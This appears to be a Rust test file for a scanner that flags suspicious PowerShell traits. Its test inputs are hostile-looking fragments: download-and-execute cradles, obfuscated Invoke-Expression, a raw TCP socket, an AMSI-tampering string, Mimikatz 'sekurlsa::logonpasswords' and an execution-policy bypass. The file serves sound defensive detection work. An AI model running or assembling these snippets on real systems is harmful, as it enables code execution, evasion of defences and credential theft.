use super::*;
use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;
use proptest::prelude::*;

#[test]
fn each_trait_is_found() {
    for (text, expected) in [
        (
            "(New-Object Net.WebClient).DownloadString('http://x')",
            Trait::Download,
        ),
        ("IWR http://x -OutFile y", Trait::Download),
        ("('Down'+'load'+\"File\")", Trait::Download),
        ("curl http://x | iex", Trait::InvokeExpression),
        (
            "& ( $pSHomE[4]+$pshome[30]+'x')(\"a\")",
            Trait::InvokeExpression,
        ),
        ("&([ScriptBlock]::Create($x))", Trait::InvokeExpression),
        ("I`nvoke-Ex`pression $x", Trait::InvokeExpression),
        ("[Reflection.Assembly]::Load($b)", Trait::Reflection),
        ("New-Object Net.Sockets.TCPClient('h',1)", Trait::Socket),
        (
            "New-Object IO.Compression.GzipStream($m)",
            Trait::Decompression,
        ),
        ("[Convert]::FromBase64String('')", Trait::Base64),
        ("$a -bxor $b", Trait::Xor),
        ("'am'+'siInitFa'+'iled'", Trait::Tamper),
        (
            "SYStEm.SECURiTY.CrYPTOgraPhY.AesCRyPtOSerVIcePRovIDER",
            Trait::SymmetricCipher,
        ),
        ("$aes.CreateEncryptor()", Trait::Encrypt),
        ("$s | ConvertFrom-SecureString -Key $k", Trait::Encrypt),
        ("Execute(x & y)", Trait::InvokeExpression),
        ("$aes.CreateDecryptor()", Trait::Decrypt),
        (
            "New-Object Security.Cryptography.Rfc2898DeriveBytes($p,$s)",
            Trait::KeyDerivation,
        ),
        ("$s=0..255; $k -BXOR $s[($i+$j)%256]", Trait::Rc4Loop),
        ("Invoke-RestMethod x -Method POST -Body $b", Trait::Upload),
        ("[IO.File]::ReadAllBytes('x')", Trait::DataHandling),
        (
            "Invoke-WmiMethod -Path win32_process -Name create",
            Trait::WmiProcess,
        ),
        ("Set-ExecutionPolicy Bypass", Trait::PolicyChange),
        ("sekurlsa::logonpasswords", Trait::Credentials),
    ] {
        let found = Traits::of(text);
        assert!(found.has(expected), "{text}: {found:?}");
    }
}

#[test]
fn ordinary_scripts_have_none() {
    for text in [
        "Get-ChildItem -Path C:\\Temp | Where-Object { $_.Length -gt 1MB } | Sort-Object Name",
        "Write-Host 'complex indexing of firmware'; Get-Service -Name curlew",
        "$total = 5 % 2; $name.ToUpper(); Test-Path $file",
        "# execute the query: $command.Execute(); ConvertFrom-SecureString $s; $src4",
        "[void][Reflection.Assembly]::LoadWithPartialName('System.Windows.Forms')",
        "",
    ] {
        assert!(
            Traits::of(text).is_empty(),
            "{text}: {:?}",
            Traits::of(text)
        );
    }
}

#[test]
fn a_set_can_be_asked_and_shown() {
    let found = Traits::of("iex (irm http://x)");
    assert_eq!(found.count(), 2);
    assert_eq!(
        found.names().collect::<Vec<_>>(),
        ["download cradle", "runs text as code"]
    );
    assert!(found.has_any(&[Trait::Socket, Trait::Download]));
    assert_eq!(found | Traits::default(), found);
    assert_eq!(found.iter().collect::<Traits>(), found);
    assert_eq!(format!("{found:?}"), "{Download, InvokeExpression}");
    assert_eq!(Trait::ALL.iter().copied().collect::<Traits>().count(), 18);
}

#[test]
fn inner_layers_are_read() {
    let inner = STANDARD.encode("$c = New-Object Net.Sockets.TCPClient('host', 4444)");
    let outer = format!("$x = '{inner}'");
    assert!(!Traits::of(&outer).has(Trait::Socket));
    assert!(Traits::of_layers(&outer).has(Trait::Socket));
}

proptest! {
    #[test]
    fn any_text_is_survived(text in any::<String>()) {
        let _ = Traits::of_layers(&text);
    }

    #[test]
    fn the_awkward_characters_are_survived(text in "[`'\"+ \\[\\]()char0-9x,é]{0,80}") {
        prop_assert!(normalise(&text).len() <= 2 * text.len() + 1);
    }
}
